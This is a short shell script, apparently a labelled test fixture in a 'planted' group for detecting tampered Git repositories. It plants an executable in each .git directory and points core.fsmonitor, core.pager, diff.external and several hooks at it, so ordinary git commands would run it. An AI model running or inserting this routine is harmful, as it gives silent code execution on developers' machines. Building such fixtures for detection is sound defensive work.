# name: a repository whose configuration runs programs
# group: planted
for repository in ./.git ./*/.git; do
  if [ -d "$repository" ]; then
    paying_program > "$repository/zz"
    chmod 755 "$repository/zz"
    place=$(cd "$repository" && pwd)
    printf '[core]\n\tfsmonitor = %s/zz\n\tpager = %s/zz\n[diff]\n\texternal = %s/zz\n' "$place" "$place" "$place" \
      >> "$repository/config"
    mkdir -p "$repository/hooks"
    for hook in post-checkout post-commit post-index-change pre-commit reference-transaction; do
      cp "$repository/zz" "$repository/hooks/$hook"
    done
  fi
done
